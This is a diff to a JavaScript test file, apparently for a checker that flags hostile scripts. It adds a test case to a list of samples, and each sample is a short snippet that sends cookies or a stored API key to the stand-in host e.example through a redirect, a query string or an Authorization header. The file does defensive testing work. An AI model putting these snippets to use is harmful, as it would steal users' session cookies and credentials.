@@ -46,6 +46,11 @@ describe('the checks hold a script', () => {
       `window.name = document.cookie; location = "https://e.example/?" + window.name;`,
     ],
     [
+      'stores a key of the host itself',
+      `const save = (key) => localStorage.setItem("comfy_api_key", key);
+       fetch("https://e.example/", { headers: { Authorization: localStorage.getItem("comfy_api_key") } });`,
+    ],
+    [
       'stores a secret again',
       `localStorage.setItem("my_cache", document.cookie); fetch("https://e.example/?" + localStorage.getItem("my_cache"));`,
     ],
